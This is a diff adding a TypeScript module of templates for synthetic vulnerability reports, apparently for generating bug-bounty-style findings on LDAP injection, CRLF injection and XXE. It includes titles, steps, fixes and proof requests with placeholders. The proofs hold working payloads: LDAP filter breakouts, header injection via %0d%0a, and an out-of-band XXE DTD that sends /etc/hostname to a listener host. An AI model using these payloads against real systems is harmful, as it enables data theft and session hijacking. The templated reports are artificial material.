@@ -1,0 +1,224 @@
+import type { VulnerabilityClass } from './vulnerability-class.ts'
+
+const ldapInjection: VulnerabilityClass = {
+  key: 'ldap-injection',
+  type: 'LDAP or directory injection',
+  cwe: 90,
+  weight: 1,
+  surfaces: ['web', 'api'],
+  shape: 'read',
+  severities: [
+    ['High', 4],
+    ['Medium', 5],
+  ],
+  places: [
+    { path: '«api»/directory/search', parameter: 'name' },
+    { method: 'POST', path: '/login/corporate', parameter: 'username' },
+  ],
+  titles: [
+    'LDAP injection in the staff directory search («parameter»)',
+    'LDAP filter injection at «path» lists all accounts',
+    'Blind LDAP injection lets me read attributes of any «staffRole»',
+  ],
+  summaries: [
+    'The search of `«path»` puts `«parameter»` into an LDAP filter as it comes. Closing the parenthesis and adding a condition of my own lets me ask for any attribute.',
+    'With `*)(objectClass=*` in `«parameter»` the directory answers with every entry, also those that the page would filter out.',
+  ],
+  steps: [
+    [
+      'Open `«path»?«parameter»=smith`: one entry is found.',
+      'Open `«path»?«parameter»=*)(uid=*`: every entry is found.',
+      'Ask bit by bit for an attribute that is not shown: `smith)(employeeNumber=4*` answers with the entry, `smith)(employeeNumber=5*` does not.',
+    ],
+  ],
+  proofs: [
+    [
+      {
+        say: 'True and false side by side:',
+        lang: 'http',
+        code: `GET «path»?«parameter»=smith%29%28employeeNumber%3D4%2A HTTP/1.1
+Host: «host»
+
+HTTP/1.1 200 OK
+{"count":1}
+
+GET «path»?«parameter»=smith%29%28employeeNumber%3D5%2A HTTP/1.1
+Host: «host»
+
+HTTP/1.1 200 OK
+{"count":0}`,
+      },
+    ],
+  ],
+  impacts: [
+    'All attributes in the directory can be read character by character: telephone numbers, employee numbers, group memberships. That is a list of targets for phishing «staffRole»s.',
+    'Directory data of all employees of «company» is exposed to any «customer».',
+  ],
+  fixes: ['Escape the value for LDAP filters (RFC 4515) and limit the attributes that may be searched.'],
+  notes: [
+    'True/false answers reproduced. `userPassword` is not readable for the bind user, checked with the directory team.',
+  ],
+}
+
+const crlfInjection: VulnerabilityClass = {
+  key: 'crlf-injection',
+  type: 'CRLF injection',
+  cwe: 93,
+  weight: 2,
+  surfaces: ['web', 'infrastructure'],
+  shape: 'click',
+  severities: [
+    ['Medium', 5],
+    ['Low', 5],
+  ],
+  places: [
+    { path: '/redirect', parameter: 'lang' },
+    { path: '/«segment»/download', parameter: 'filename' },
+    { path: '/set-region', parameter: 'region' },
+  ],
+  titles: [
+    'CRLF injection in `«parameter»` sets arbitrary response headers on «host»',
+    'HTTP response splitting at «path»',
+    'Header injection through `«parameter»` → cookie fixation',
+  ],
+  summaries: [
+    'Line breaks in `«parameter»` are written into the response head. I can add headers of my own, `Set-Cookie` included.',
+    '`%0d%0a` in `«parameter»` ends the header line. Everything behind it is taken as further headers by the browser.',
+  ],
+  steps: [
+    [
+      'Open `https://«host»«path»?«parameter»=en%0d%0aSet-Cookie:%20«cookieName»=«handle»` in a fresh browser profile.',
+      'Look at the cookies of «host»: `«cookieName»` has the value that came from the address.',
+      'Sign in. The value stays the same.',
+    ],
+  ],
+  proofs: [
+    [
+      {
+        say: 'Raw answer:',
+        lang: 'http',
+        code: `GET «path»?«parameter»=en%0d%0aSet-Cookie:%20«cookieName»=«handle» HTTP/1.1
+Host: «host»
+
+HTTP/1.1 302 Found
+Server: «server»
+Content-Language: en
+Set-Cookie: «cookieName»=«handle»
+Location: /`,
+      },
+    ],
+    [
+      {
+        say: 'One line to check it:',
+        lang: 'bash',
+        code: `curl -si 'https://«host»«path»?«parameter»=en%0d%0aX-Injected:%20«handle»' | grep -i x-injected
+X-Injected: «handle»`,
+      },
+    ],
+  ],
+  impacts: [
+    'A link on the real domain can fix the session cookie of whoever follows it, and with a second pair of line breaks the body of the page.',
+    'Headers such as `Access-Control-Allow-Origin` can be added, so that other protections fall.',
+  ],
+  fixes: ['Refuse control characters in header values; the framework does it when its own API is used.'],
+  notes: [
+    'Header appears with HTTP/1.1 only; over h2 the edge drops the request with 400. Browsers negotiate h2, so Low unless they show a way.',
+  ],
+}
+
+const xxe: VulnerabilityClass = {
+  key: 'xxe',
+  type: 'XML external entities',
+  cwe: 611,
+  weight: 3,
+  surfaces: ['web', 'api'],
+  shape: 'read',
+  severities: [
+    ['Critical', 1],
+    ['High', 6],
+    ['Medium', 3],
+  ],
+  places: [
+    { method: 'POST', path: '«collection»/import/xml', parameter: 'file' },
+    { method: 'POST', path: '/saml/acs', parameter: 'SAMLResponse' },
+    { method: 'POST', path: '«api»/avatar', parameter: 'svg' },
+    { method: 'POST', path: '«api»/documents', parameter: 'docx' },
+  ],
+  titles: [
+    'XXE in the «one» import reads local files of the server',
+    'Blind XXE through `«parameter»` at «path» (out of band)',
+    'XML external entity injection in «path» → file read and SSRF',
+    'XXE in an uploaded «parameter» file',
+  ],
+  summaries: [
+    'The parser behind `«path»` resolves external entities. A file with an entity that points to `file:///etc/hostname` gives back the content of that file.',
+    '`«path»` takes XML and follows external DTDs. I read `/etc/hostname` out of band; the same way leads to any text file the service may read.',
+  ],
+  steps: [
+    [
+      'Sign in as a «customer» and go to *Import*.',
+      'Put the DTD below on a web server of your own.',
+      'Upload the file `«handle».xml` to `«path»`.',
+      'The web server gets a request whose query is the content of `/etc/hostname`.',
+    ],
+    [
+      'Send the request below.',
+      'The error message quotes the «one» that could not be found. Its name is the content of the file.',
+    ],
+  ],
+  proofs: [
+    [
+      {
+        say: 'What is uploaded:',
+        lang: 'xml',
+        code: `<?xml version="1.0"?>
+<!DOCTYPE r [
+  <!ENTITY % dtd SYSTEM "https://«listener»/x.dtd">
+  %dtd;
+]>
+<import><name>&send;</name></import>`,
+      },
+      {
+        say: '`x.dtd` on my side:',
+        lang: 'xml',
+        code: `<!ENTITY % file SYSTEM "file:///etc/hostname">
+<!ENTITY % all "<!ENTITY send SYSTEM 'https://«listener»/?%file;'>">
+%all;`,
+      },
+      {
+        say: 'Access log of my server:',
+        lang: 'text',
+        code: '«ip» - - "GET /?«slug»-import-6d8f7c HTTP/1.1" 200 2 "-" "Java/21.0.4"',
+      },
+    ],
+    [
+      {
+        say: 'In band, through the error message:',
+        lang: 'http',
+        code: `«method» «path» HTTP/1.1
+Host: «host»
+Cookie: «cookieName»=«session»
+Content-Type: application/xml
+
+<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>
+<import><id>&x;</id></import>
+
+HTTP/1.1 422 Unprocessable Content
+{"error":"no «one» with id '«slug»-import-6d8f7c'"}`,
+      },
+    ],
+  ],
+  impacts: [
+    'Files that the service can read leave the house: configuration, keys, other customers’ imports. The parser also reaches addresses inside the network.',
+    'With the cloud metadata address in place of the file an attacker may get the credentials of the instance.',
+  ],
+  fixes: [
+    'Switch off DTDs in the parser (`disallow-doctype-decl`), which is one line for the library in use.',
+  ],
+  notes: [
+    'Callback from the import worker seen, hostname matches the pod. Egress is filtered to 443 only. High is right.',
+  ],
+}
+
+export const protocolInjectionClasses: readonly VulnerabilityClass[] = [ldapInjection, crlfInjection, xxe]
